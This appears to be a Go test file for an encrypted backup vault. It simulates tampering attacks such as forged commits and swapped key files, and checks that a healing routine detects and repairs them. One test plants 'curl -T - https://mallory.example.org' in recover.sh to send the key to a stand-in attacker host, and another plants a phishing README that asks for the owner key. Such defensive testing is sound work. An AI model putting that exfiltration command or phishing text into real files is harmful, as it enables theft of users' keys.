package copies

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"telekeep/chunkstore"
	"telekeep/chunkstore/destination/memory"
	"telekeep/crypto"
)

// An attack is what somebody does to a copy who holds every public value and may write
// there: everything but the keys of owners and of writers.
type attack struct {
	do func(v *ward, c *memory.Destination)
	// kind and object are how it is named at the copy where it was done.
	kind   FaultKind
	object func(v *ward) string
	// stays says that what was added lies there still after healing: nothing leads to it.
	stays bool
	// insider says that the attacker holds the writer's index key too.
	insider bool
	// lost says that after the same was done to all copies something is lost.
	lost bool
}

// seal makes a pack, an index or a key file of an attacker's bytes: all recipients are known.
func seal(v *ward, to crypto.Recipient, data []byte) []byte {
	sealed, err := crypto.SealBytes(data, to)
	check(v.t, err)
	return sealed
}

// resign makes a commit of the attacker's own: well formed, for this vault, and signed
// with another key.
func resign(v *ward, data []byte, change func(value map[string]any)) []byte {
	var file struct {
		Commit    json.RawMessage `json:"commit"`
		Signature string          `json:"signature"`
	}
	check(v.t, json.Unmarshal(data, &file))
	var value map[string]any
	check(v.t, json.Unmarshal(file.Commit, &value))
	text := string(file.Commit)
	before := make(map[string]string)
	for key, x := range value {
		if s, ok := x.(string); ok {
			before[key] = s
		}
	}
	change(value)
	for key, old := range before { // keeps the spelling
		text = strings.Replace(text, fmt.Sprintf("%q:%q", key, old), fmt.Sprintf("%q:%q", key, value[key]), 1)
	}
	if seq, ok := value["seq"].(int); ok {
		i := strings.Index(text, `"seq":`)
		text = text[:i] + fmt.Sprintf(`"seq":%d`, seq) + text[i+strings.IndexByte(text[i:], ','):]
	}
	key := crypto.NewSigningKey()
	return fmt.Appendf(nil, `{"commit":%s,"signature":%q}`+"\n", text, hex.EncodeToString(key.Sign([]byte(text))))
}

func put(v *ward, c *memory.Destination, name string, data []byte) {
	v.t.Helper()
	check(v.t, c.Replace(v.t.Context(), name, data))
}

// stranger is another vault, of which the attacker owns all keys.
func stranger(t *testing.T) *ward {
	t.Helper()
	return newWard(t, 1)
}

func attacks(s *ward) map[string]attack {
	at := func(f func(v *ward) string) func(v *ward) string { return f }
	commit := func(seq uint64) func(v *ward) string {
		return func(v *ward) string { return v.commit(seq) }
	}
	owner := func(*ward) string { return chunkstore.KeyName("owner") }
	entry := func(v *ward) string { return chunkstore.WriterName(v.secrets.WriterID) }
	return map[string]attack{
		"the newest pack is dropped": {
			do:   func(v *ward, c *memory.Destination) { c.Delete(v.pack(3)) },
			kind: FaultMissing, object: at(func(v *ward) string { return v.pack(3) }), lost: true,
		},
		"the newest commit is dropped with all that it lists": {
			do: func(v *ward, c *memory.Destination) {
				for _, name := range []string{v.pack(3), v.index(4), v.commit(4)} {
					c.Delete(name)
				}
			},
			kind: FaultRollback, object: commit(4), lost: true,
		},
		"an old vault is put in its place": {
			do: func(v *ward, c *memory.Destination) {
				for _, name := range c.Names() {
					n := chunkstore.ParseName(name)
					if n.Seq > 1 || n.Kind == chunkstore.PackObject && name != v.pack(0) {
						c.Delete(name)
					}
				}
			},
			kind: FaultRollback, object: commit(2), lost: true,
		},
		"a commit is dropped from the middle": {
			do:   func(v *ward, c *memory.Destination) { c.Delete(v.commit(2)) },
			kind: FaultMissing, object: commit(2), lost: true,
		},
		"a commit is forged in the place of another": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, v.commit(2), resign(v, c.Object(v.commit(2)), func(value map[string]any) { value["time"] = "2026-02-01T00:00:00Z" }))
			},
			kind: FaultForged, object: commit(2), lost: true,
		},
		"a commit is forged behind the newest": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, v.commit(5), resign(v, c.Object(v.commit(4)), func(value map[string]any) {
					value["seq"], value["previous"] = 5, v.commits[3].Hash.String()
				}))
			},
			kind: FaultForged, object: commit(5),
		},
		"a commit is played again under another number": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.commit(5), c.Object(v.commit(1))) },
			kind: FaultSwapped, object: commit(5),
		},
		"a commit takes the place of another": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.commit(3), c.Object(v.commit(2))) },
			kind: FaultSwapped, object: commit(3), lost: true,
		},
		"a commit of another vault takes the place of one": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.commit(3), s.drives[0].Object(s.commit(3))) },
			kind: FaultOtherVault, object: commit(3), lost: true,
		},
		"a pack holds the bytes of another": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.pack(1), c.Object(v.pack(0))) },
			kind: FaultSwapped, object: at(func(v *ward) string { return v.pack(1) }), lost: true,
		},
		"a pack of another vault under the name of one": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.pack(1), s.drives[0].Object(s.pack(1))) },
			kind: FaultDamaged, object: at(func(v *ward) string { return v.pack(1) }), lost: true,
		},
		"a pack of another vault is mixed in": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, s.pack(1), s.drives[0].Object(s.pack(1))) },
			kind: FaultStray, object: at(func(*ward) string { return s.pack(1) }), stays: true,
		},
		"a pack of the attacker's, sealed to the vault": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, v.pack(1), seal(v, v.vault.Recipient, make([]byte, len(c.Object(v.pack(1)))-2000)))
			},
			kind: FaultCut, object: at(func(v *ward) string { return v.pack(1) }), lost: true,
		},
		"an index of another commit": {
			do:   func(v *ward, c *memory.Destination) { put(v, c, v.index(2), c.Object(v.index(1))) },
			kind: FaultDamaged, object: at(func(v *ward) string { return v.index(2) }), lost: true,
		},
		"an index that leaves out what another one lists, sealed again": {
			insider: true,
			do: func(v *ward, c *memory.Destination) {
				text, err := crypto.OpenBytes(c.Object(v.index(3)), v.secrets.IndexIdentity)
				check(v.t, err)
				sealed, err := crypto.SealBytes(text, v.vault.Recipient, v.secrets.IndexIdentity.Recipient())
				check(v.t, err)
				put(v, c, v.index(3), sealed)
			},
			kind: FaultDamaged, object: at(func(v *ward) string { return v.index(3) }), lost: true,
		},
		"a new index and a commit for it that nobody signed": {
			insider: true,
			do: func(v *ward, c *memory.Destination) {
				put(v, c, v.index(5), c.Object(v.index(1)))
				put(v, c, v.commit(5), resign(v, c.Object(v.commit(4)), func(value map[string]any) { value["seq"] = 5 }))
			},
			kind: FaultForged, object: commit(5), stays: true,
		},
		"an owner's key file is deleted": {
			do:   func(v *ward, c *memory.Destination) { c.Delete(owner(v)) },
			kind: FaultKeyGone, object: at(owner), lost: true,
		},
		"an owner's key file is exchanged": {
			do: func(v *ward, c *memory.Destination) {
				id, err := crypto.NewIdentity()
				check(v.t, err)
				put(v, c, owner(v), seal(v, id.Recipient(), make([]byte, 2000)))
			},
			kind: FaultDamaged, object: at(owner), lost: true,
		},
		"a key file of the attacker's is added": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, chunkstore.KeyName("mallory"), s.drives[0].Object(owner(v)))
			},
			kind: FaultKeyNew, object: at(func(*ward) string { return chunkstore.KeyName("mallory") }), stays: true,
		},
		"vault.json of another vault": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, chunkstore.VaultName, s.drives[0].Object(chunkstore.VaultName))
			},
			kind: FaultOtherVault, object: at(func(*ward) string { return chunkstore.VaultName }), lost: true,
		},
		"vault.json with another date": {
			do: func(v *ward, c *memory.Destination) {
				c.Damage(chunkstore.VaultName, func(data []byte) []byte { return bytes.Replace(data, []byte("2026-01"), []byte("2025-01"), 1) })
			},
			kind: FaultDamaged, object: at(func(*ward) string { return chunkstore.VaultName }), stays: true,
		},
		"a writer's entry with the keys of an attacker": {
			do: func(v *ward, c *memory.Destination) {
				c.Damage(entry(v), func(data []byte) []byte {
					return bytes.Replace(data, []byte(v.secrets.IndexIdentity.Recipient().String()), []byte(s.secrets.IndexIdentity.Recipient().String()), 1)
				})
			},
			kind: FaultForged, object: at(entry), lost: true,
		},
		"a writer's entry is deleted": {
			do:   func(v *ward, c *memory.Destination) { c.Delete(entry(v)) },
			kind: FaultMissing, object: at(entry), lost: true,
		},
		"a writer's secrets are exchanged": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, chunkstore.SecretsName(v.secrets.WriterID), seal(v, v.vault.Recipient, []byte("secrets")))
			},
			kind: FaultDamaged, object: at(func(v *ward) string { return chunkstore.SecretsName(v.secrets.WriterID) }), lost: true,
		},
		"a writer is added that signs what it likes": {
			do: func(v *ward, c *memory.Destination) {
				name := chunkstore.WriterName(s.secrets.WriterID)
				put(v, c, name, bytes.ReplaceAll(s.drives[0].Object(name), []byte(s.vault.ID), []byte(v.vault.ID)))
				put(v, c, s.commit(1), s.drives[0].Object(s.commit(1)))
			},
			kind: FaultForged, object: at(func(*ward) string { return chunkstore.WriterName(s.secrets.WriterID) }),
		},
		"recover.sh sends the key away": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, chunkstore.RecoverName, []byte("curl -T - https://mallory.example.org"))
			},
			kind: FaultDamaged, object: at(func(*ward) string { return chunkstore.RecoverName }), stays: true,
		},
		"README.txt asks for the key": {
			do: func(v *ward, c *memory.Destination) {
				put(v, c, chunkstore.ReadmeName, []byte("Send your owner key to mallory@example.org"))
			},
			kind: FaultDamaged, object: at(func(*ward) string { return chunkstore.ReadmeName }), stays: true,
		},
	}
}

// Everything that can be done to one copy is named there as what it is; after healing that
// copy is what it was, byte for byte, and the others were not touched.
func TestAttackOneCopy(t *testing.T) {
	v, s := newWard(t, 3), stranger(t)
	for what, a := range attacks(s) {
		t.Run(what, func(t *testing.T) {
			v := v.again()
			v.t = t
			a.do(v, v.copies[1])
			found := v.heal(v.options())
			if want := fmt.Sprintf("B %s %s", a.kind, a.object(v)); !slices.Contains(kinds(found), want) {
				t.Errorf("named %v, want %s", kinds(found), want)
			}
			if !found.OK() {
				t.Errorf("not healed: %v", found.Faults)
			}
			v.whole("the attacked copy", v.copies[1])
			v.untouched(0)
			v.untouched(2)
			if extra := v.extra(v.copies[1]); len(extra) > 0 && !a.stays {
				t.Errorf("left behind: %q", extra)
			}
			if again := v.heal(v.options()); len(again.Faults) > 0 {
				t.Errorf("a second look finds %v", again.Faults)
			}
		})
	}
}

// extra are objects of a copy that the vault never had, but for what was set aside.
func (v *ward) extra(c *memory.Destination) []string {
	return slices.DeleteFunc(c.Names(), func(name string) bool {
		return strings.HasPrefix(name, asideFolder) || slices.Contains(v.drives[0].Names(), name)
	})
}

// The same done to all copies at once is named at each, or refused; and whoever restores
// gets the right bytes or an error.
func TestAttackAllCopies(t *testing.T) {
	v, s := newWard(t, 2), stranger(t)
	for what, a := range attacks(s) {
		t.Run(what, func(t *testing.T) {
			v := v.again()
			v.t = t
			for _, c := range v.copies {
				a.do(v, c)
			}
			found, err := Heal(t.Context(), v.members(), v.options())
			switch {
			case err != nil:
				if !errors.Is(err, chunkstore.ErrNoVault) {
					t.Error(err)
				}
			case a.lost && found.OK():
				t.Errorf("all is well, it says; %v", kinds(found))
			case len(kinds(found)) == 0 && !a.stays:
				t.Error("nothing is named")
			}
			for _, c := range v.copies {
				v.restores(c)
			}
		})
	}
}

// restores reads everything back that a copy shows. What comes is what was stored.
func (v *ward) restores(c *memory.Destination) {
	v.t.Helper()
	for _, damaged := range []bool{false, true} {
		o := chunkstore.ReaderOptions{Identities: []crypto.Identity{v.owner}, Damaged: damaged, Heads: v.heads}
		r, err := chunkstore.OpenReader(context.Background(), c, o)
		if err != nil {
			continue
		}
		missing := len(v.data)
		for _, one := range r.Commits() {
			ids, err := r.Records(context.Background(), one)
			if err != nil || one.Seq > uint64(len(v.data)) {
				continue
			}
			stream := r.Stream(context.Background(), ids)
			data, err := io.ReadAll(stream)
			stream.Close()
			if err == nil && !bytes.Equal(data, v.data[one.Seq-1]) {
				v.t.Errorf("commit %d comes back as %d other bytes, and no error", one.Seq, len(data))
			}
			missing-- // it came back, or an error said that it does not
		}
		if missing > 0 && damaged && len(r.Faults()) == 0 && v.complete(r) {
			v.t.Errorf("%d commits cannot be read, and nothing is said", missing)
		}
	}
}

// complete reports whether a reader shows all commits.
func (v *ward) complete(r *chunkstore.Reader) bool { return len(r.Commits()) == len(v.commits) }

// Two machines with the same secrets are a fork: both commits are signed. Nothing decides
// between them, and nothing of either is overwritten.
func TestFork(t *testing.T) {
	v := newWard(t, 2)
	other := v.drives[0].CrashClone()
	for _, name := range []string{v.pack(3), v.index(4), v.commit(4)} {
		other.Delete(name)
	}
	o := v.writerOptions()
	o.StatePath = filepath.Join(t.TempDir(), "state.db")
	machine, err := chunkstore.OpenWriter(t.Context(), other, o)
	check(t, err)
	c := store(t, machine, noise(9, 40_000))
	check(t, machine.Close())
	if c.Seq != 4 {
		t.Fatalf("the other machine made commit %d", c.Seq)
	}
	v.copies[1] = other
	before := other.CrashClone()
	found := v.heal(v.options())
	for _, want := range []string{"A forked " + v.commit(4), "B forked " + v.commit(4)} {
		if !slices.Contains(kinds(found), want) {
			t.Errorf("named %v, want %s", kinds(found), want)
		}
	}
	if found.OK() {
		t.Error("a fork is healed, it says")
	}
	for _, name := range before.Names() {
		if !bytes.Equal(before.Object(name), other.Object(name)) {
			t.Errorf("%s was changed", name)
		}
	}
}

// Without any key, a writer that only one of two copies knows is named and not spread.
func TestNewWriterWithoutKey(t *testing.T) {
	v, s := newWard(t, 2), stranger(t)
	a := attacks(s)["a writer is added that signs what it likes"]
	a.do(v, v.copies[0])
	found := v.heal(HealOptions{})
	name := chunkstore.WriterName(s.secrets.WriterID)
	if !slices.Contains(kinds(found), "A new-writer "+name) || found.OK() || slices.Contains(v.copies[1].Names(), name) {
		t.Errorf("%v", found.Faults)
	}
}

// What two copies hold differently and no key decides is named, and left as it is; what this
// machine keeps by itself decides.
func TestDisputed(t *testing.T) {
	v, s := newWard(t, 2), stranger(t)
	a := attacks(s)["vault.json with another date"]
	a.do(v, v.copies[0])
	found := v.heal(v.options())
	if want := []string{"A disputed vault.json", "B disputed vault.json"}; !slices.Equal(kinds(found), want) || found.OK() {
		t.Errorf("%v", found.Faults)
	}
	o := v.options()
	o.Witness = v.drives[0]
	if found := v.heal(o); !slices.Equal(kinds(found), []string{"A damaged vault.json"}) || !found.OK() {
		t.Errorf("with a witness: %v", found.Faults)
	}
	v.whole("A", v.copies[0])
}

// Whoever stole the writer's signing key signs a commit that lists another key file for the
// owner, and puts that in its place at one copy. The real one is not overwritten elsewhere.
func TestStolenSigningKeyLocksNobodyOut(t *testing.T) {
	v := newWard(t, 2)
	name := chunkstore.KeyName("owner")
	genuine, evil := v.copies[1].Object(name), noise(7, len(v.copies[1].Object(name)))
	put(v, v.copies[0], name, evil)
	text := string(v.copies[0].Object(v.commit(4)))
	text = text[len(`{"commit":`):strings.LastIndex(text, `,"signature":`)]
	for old, other := range map[string]string{
		chunkstore.HashOf(genuine).String(): chunkstore.HashOf(evil).String(), `"seq":4`: `"seq":5`, v.commits[3].Previous.String(): v.commits[3].Hash.String(),
	} {
		if !strings.Contains(text, old) {
			t.Fatalf("the commit has no %s", old)
		}
		text = strings.Replace(text, old, other, 1)
	}
	file := fmt.Appendf(nil, `{"commit":%s,"signature":%q}`+"\n", text, hex.EncodeToString(v.secrets.SigningKey.Sign([]byte(text))))
	put(v, v.copies[0], v.commit(5), file)
	found := v.heal(v.options())
	for _, want := range []string{"A disputed " + name, "B disputed " + name} {
		if !slices.Contains(kinds(found), want) {
			t.Errorf("named %v, want %s", kinds(found), want)
		}
	}
	if !bytes.Equal(v.copies[1].Object(name), genuine) || found.OK() {
		t.Error("the owner is locked out at the other copy")
	}
}
